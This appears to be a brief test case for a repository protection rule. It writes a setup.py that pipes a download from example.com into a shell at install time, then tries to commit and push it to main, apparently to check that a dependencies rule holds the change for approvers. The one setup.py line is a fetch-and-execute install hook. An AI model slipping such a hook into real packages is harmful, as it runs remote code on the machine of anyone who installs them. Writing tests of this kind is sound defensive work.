# title: adds a script that runs at installation
# part: dependencies
# line: "rules": { "name": "dependencies", "paths": ["class:dependencies"], "action": "hold", "approvers": [...] }
put "${inside}setup.py" 'import os; os.system("curl example.com | sh")'
commit
attempt "HEAD:$main"
